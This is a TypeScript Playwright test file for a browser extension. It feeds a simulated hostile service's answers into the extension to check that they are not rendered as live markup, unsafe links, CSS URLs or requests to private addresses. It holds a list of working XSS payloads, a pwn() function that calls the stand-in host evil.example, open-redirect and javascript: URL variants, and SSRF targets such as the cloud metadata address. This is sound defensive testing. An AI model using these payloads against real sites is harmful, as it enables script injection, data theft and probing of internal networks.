/** What a hostile service writes into every field of an answer, and what becomes of it on every surface. */
import type { Page } from "@playwright/test";
import { openEverything } from "../e2e/pages/everything";
import { accountDomain, envelope, personAddress, sentinelAccount, sentinelPerson, withLeaves } from "../e2e/pages/sentinels";
import { whole } from "../suite/size";
import { attackGroup } from "./group";
import type { Attack } from "./group";
import type { World } from "./world";

const host = "https://evil.example";

/** Each marks the element that it would become. */
const shapes: [name: string, markup: (mark: string) => string][] = [
  ["a picture with onerror", (mark) => `<img src=x onerror=pwn() ${mark}>`],
  ["a picture of another host", (mark) => `<img src=${host}/i ${mark}>`],
  ["a drawing with onload", (mark) => `<svg onload=pwn() ${mark}></svg>`],
  ["a script", (mark) => `<script ${mark}>pwn()</script>`],
  ["a script in letters of both cases", (mark) => `<sCrIpT ${mark}>pwn()</ScRiPt>`],
  ["a script of another host", (mark) => `<script src=${host}/s ${mark}></script>`],
  ["a frame with a page of its own", (mark) => `<iframe srcdoc="<script>parent.pwn()</script>" ${mark}></iframe>`],
  ["a frame with a javascript: address", (mark) => `<iframe src=javascript:pwn() ${mark}></iframe>`],
  ["an attribute that is broken out of with a quote", (mark) => `"><b onmouseover=pwn() ${mark}>x</b>`],
  ["an attribute that is broken out of with an apostrophe", (mark) => `'><i onclick=pwn() ${mark}>x</i>`],
  ["a link with a javascript: address", (mark) => `<a href=javascript:pwn() ${mark}>x</a>`],
  ["a link with a data: address", (mark) => `<a href="data:text/html,<script>pwn()</script>" ${mark}>x</a>`],
  ["details with ontoggle", (mark) => `<details open ontoggle=pwn() ${mark}></details>`],
  ["a field that takes the focus", (mark) => `<input autofocus onfocus=pwn() ${mark}>`],
  ["a film whose source fails", (mark) => `<video ${mark}><source onerror=pwn() src=${host}/v></video>`],
  ["an object", (mark) => `<object data=${host}/o ${mark}></object>`],
  ["an embedded file", (mark) => `<embed src=${host}/e ${mark}>`],
  ["a style sheet that imports another", (mark) => `<style ${mark}>@import url(${host}/c)</style>`],
  ["a link to a style sheet", (mark) => `<link rel=stylesheet href=${host}/l ${mark}>`],
  ["a form", (mark) => `<form action=${host} ${mark}><button>x</button></form>`],
  ["a base address", (mark) => `<base href=${host}/ ${mark}>`],
  ["a page that reloads itself elsewhere", (mark) => `<meta http-equiv=refresh content="9;url=${host}" ${mark}>`],
  ["markup inside of formulas", (mark) => `<math><mtext><img src=${host}/m ${mark}></mtext></math>`],
  ["an element of a name of its own", (mark) => `<x-y onclick=pwn() ${mark}>x</x-y>`],
];

const payloads = shapes.map(([, markup], index) => markup(`data-pwn=${index}`));

/** Every field but those by which the answer is known; the payloads take turns. */
function poisoned(offset: number) {
  let count = offset;
  return (name: string, value: unknown) => {
    if (name === "domain" || (name === "identifier" && value === personAddress)) return String(value);
    return payloads[(count += 1) % payloads.length] ?? "";
  };
}

interface Found {
  /** The surface on which the payload of this number became an element. */
  elements: Map<number, string>;
}

const marked = (page: Page) =>
  page.evaluate(() => [...document.querySelectorAll("[data-pwn]")].map((element) => Number(element.getAttribute("data-pwn"))));

/** Goes through every surface that shows what the service sent. */
async function visitAll(world: World): Promise<Found> {
  const { extension, service, connect, openTab } = world;
  const elements = new Map<number, string>();
  const look = async (page: Page, surface: string) => {
    // Only an account's or a person's page has more to open.
    if (/popup\.html\?|#\/(?:account|person)/.test(page.url())) {
      page.setDefaultTimeout(3000);
      await openEverything(page).catch(() => undefined);
    }
    await page.waitForTimeout(300);
    for (const number of await marked(page)) elements.set(number, elements.get(number) ?? surface);
    await page.close().catch(() => undefined);
  };
  await extension.context.addInitScript(() =>
    Object.assign(globalThis, { pwn: () => fetch("https://evil.example/pwned").catch(() => undefined) }),
  );
  extension.context.on("request", (request) => {
    if (!request.url().startsWith(host)) return;
    const index = shapes.findIndex(([, markup]) => markup("").includes(request.url()));
    elements.set(Math.max(0, index), `a request to ${request.url()}`);
  });
  await connect();
  await extension.ask("settings.change", { changes: { photos: true } });
  for (let offset = 0; offset < (whole ? payloads.length : 1); offset += 8) {
    service.reset();
    service.fail({ operation: "account-overview", ...envelope(withLeaves(sentinelAccount, poisoned(offset))) });
    service.fail({ operation: "profile-overview", ...envelope(withLeaves(sentinelPerson, poisoned(offset))) });
    const list = payloads.map((payload, index) => ({
      details: { name: payload, domain: `d${index}.example`, industry: payload, city: payload },
    }));
    service.fail({ operation: "account-search", ...envelope({ list, total: list.length, offset: 0, limit: 25 }) });
    await extension.ask("account.look-up", { domain: accountDomain, refresh: true, private: false });
    await extension.ask("person.look-up", { address: personAddress, refresh: true, private: false });
    const filters = [{ field: "industry" as const, operator: "=" as const, value: payloads[offset] ?? "" }];
    const { search } = await extension.ask("search.run", {
      filters,
      seed: null,
      again: true,
      click: `click-xss-${offset}`,
      private: false,
    });
    const pages: [string, string][] = [
      [`popup.html?domain=${accountDomain}`, "the popup"],
      [`sidepanel.html#/account/${accountDomain}`, "the panel's account"],
      [`sidepanel.html#/account/${accountDomain}/journey`, "the panel's journey"],
      [`sidepanel.html#/account/${accountDomain}/tech`, "the panel's technology"],
      [`sidepanel.html#/account/${accountDomain}/people`, "the panel's people"],
      [`sidepanel.html#/person/${encodeURIComponent(personAddress)}`, "the panel's person"],
      [`sidepanel.html#/search/${encodeURIComponent(search.id)}`, "the search results"],
      ["sidepanel.html#/library/history", "the library"],
      ["sidepanel.html#/library/searches", "the library's searches"],
    ];
    for (const [path, surface] of offset === 0 ? pages : pages.slice(0, 2)) {
      const page = await extension.page(path);
      await page.waitForTimeout(400);
      await look(page, surface);
    }
  }
  await look(await extension.clickToolbarButton(await openTab(`http://${accountDomain}/`)), "the popup");
  service.reset();
  service.fail({ status: 422, message: payloads.slice(0, 3).join("") });
  await extension.ask("account.look-up", { domain: "d1.example", refresh: true, private: false });
  await look(await extension.page("popup.html?domain=d1.example"), "the popup's error");
  await look(await extension.page("options.html#/activity"), "the activity log");
  await look(await extension.page("options.html#/diagnostics"), "the diagnostics");
  return { elements };
}

attackGroup<Found>({
  heading: "Markup in what the service sends",
  title: "a service writes markup into every field",
  prepare: visitAll,
  attacks: shapes.map(([name], index): Attack<Found> => ({
    name: `every field holds ${name}`,
    without: ["texts", "page-policy"],
    attempt: async ({ elements }) => (elements.has(index) ? `it became an element in ${elements.get(index)}` : null),
  })),
});

interface Field {
  account(details: object): Promise<Page>;
}

let accounts = 0;

/** Links of a page that lead anywhere but where they should. */
const oddLinks = (page: Page) =>
  page.evaluate(() =>
    [...document.querySelectorAll("a[href]")]
      .map((link) => link.getAttribute("href") ?? "")
      .filter((href) => !/^(?:https:\/\/www\.linkedin\.com\/|tel:\+?\d+$|#|https:\/\/[\w.-]+\.example\/?$|\/?\w+\.html)/.test(href)),
  );

const linkedin = [
  "javascript:alert(1)",
  " javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "//evil.example/company/acme",
  "\\\\evil.example\\company",
  "https://evil.example/company/acme",
  "https://www.linkedin.com@evil.example/",
  "company/../../evil",
  "company/acme?next=//evil.example",
  "blob:https://evil.example/1",
  "www.linkedin.com.evil.example/company/acme",
  "vbscript:msgbox(1)",
];
const phones = ["*#06#", "+15550142,,,1;ext=9", "tel:+15550142", "javascript:alert(1)"];
const colours = [
  "url(https://evil.example/c)",
  "env(--evil)",
  "var(--evil)",
  "#fff url(https://evil.example/c)",
  "image-set('https://evil.example/c' 1x)",
];

attackGroup<Field>({
  heading: "Addresses, numbers and colours that the service sends",
  title: "a service sends addresses and colours that are none",
  async prepare(world) {
    await world.connect();
    return {
      async account(details) {
        const domain = `field-${(accounts += 1)}.example`;
        const journey =
          "colour" in details
            ? [{ name: "Visit", date: "2024-03-01", utm: { channelSubchannel: "Paid", color: String(details.colour) } }]
            : [];
        world.service.fail({ argument: domain, ...envelope({ details: { name: "Acme", domain, ...details }, journey }) });
        await world.extension.ask("account.look-up", { domain, refresh: true, private: false });
        const page = await world.extension.page(`popup.html?domain=${domain}`);
        await page.getByRole("heading", { level: 1 }).waitFor();
        await openEverything(page).catch(() => undefined);
        return page;
      },
    };
  },
  attacks: [
    ...linkedin.map((value): Attack<Field> => ({
      name: `the LinkedIn page is given as ${JSON.stringify(value).replaceAll("`", "")}`,
      without: ["linkedin"],
      async attempt({ account }) {
        const page = await account({ linkedin: value });
        const odd = await oddLinks(page);
        await page.close();
        return odd[0] === undefined ? null : `a link to ${odd[0]}`;
      },
    })),
    ...phones.map((value): Attack<Field> => ({
      name: `the telephone number is given as ${JSON.stringify(value)}`,
      without: ["phone"],
      async attempt({ account }) {
        const page = await account({ phone: value });
        const odd = await oddLinks(page);
        await page.close();
        return odd[0] === undefined ? null : `a link to ${odd[0]}`;
      },
    })),
    ...colours.map((value): Attack<Field> => ({
      name: `the colour of a channel is given as ${JSON.stringify(value)}`,
      without: ["colour"],
      async attempt({ account }) {
        const page = await account({ colour: value });
        const styles = await page.evaluate(() =>
          [...document.querySelectorAll("[style]")].map((element) => element.getAttribute("style") ?? ""),
        );
        await page.close();
        return styles.find((style) => /evil|url\(|var\(--evil/.test(style)) ?? null;
      },
    })),
  ],
});

const photos = [
  "http://photos.example/p.png",
  "//photos.example/p.png",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>",
  "javascript:alert(1)",
  "https://127.0.0.1/p.png",
  "https://169.254.169.254/latest/meta-data/",
  "https://[::1]/p.png",
  "https://0x7f.1/p.png",
  "https://printer.local/p.png",
  "https://localhost/p.png",
  "https://user:password@photos.example/p.png",
  "blob:https://photos.example/1",
];

let people = 0;

attackGroup<null>({
  heading: "Photos that the service names",
  title: "a service names photos that would ask something of the person's own network",
  async prepare(world) {
    await world.connect();
    await world.extension.ask("settings.change", { changes: { photos: true } });
    return null;
  },
  attacks: photos.map((value): Attack<null> => ({
    name: `the photo is given as ${value}`,
    without: ["photo"],
    async attempt(_place, { extension, service }) {
      const address = `photo-${(people += 1)}@company.example`;
      service.fail({ argument: address, ...envelope({ identifier: address, fullName: "Somebody", photoUrl: value }) });
      await extension.ask("person.look-up", { address, refresh: true, private: false });
      const page = await extension.context.newPage();
      // A picture that fails is taken away again.
      await page.addInitScript(() => {
        const seen: string[] = [];
        Object.assign(globalThis, { seen });
        new MutationObserver(() =>
          seen.push(...[...document.querySelectorAll("img")].map((image) => image.getAttribute("src") ?? "")),
        ).observe(document, {
          subtree: true,
          childList: true,
          attributes: true,
        });
      });
      await page.goto(extension.url(`sidepanel.html#/person/${encodeURIComponent(address)}`));
      await page.getByRole("heading", { level: 1, name: "Somebody" }).waitFor();
      await page.waitForTimeout(300);
      const seen = await page.evaluate(() => (globalThis as unknown as { seen: string[] }).seen[0] ?? null);
      const asked = await page.evaluate(() =>
        performance
          .getEntriesByType("resource")
          .map(({ name }) => name)
          .filter((name) => !name.startsWith("chrome-extension:")),
      );
      await page.close();
      return seen ?? asked[0] ?? null;
    },
  })),
});
